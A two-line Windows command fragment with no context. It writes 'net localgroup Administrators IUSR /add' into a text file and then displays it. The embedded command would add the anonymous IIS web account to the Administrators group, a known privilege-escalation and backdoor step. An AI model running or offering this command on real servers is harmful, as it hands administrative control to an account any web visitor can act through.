echo net localgroup Administrators IUSR /add > C:\steps.txt
type C:\steps.txt
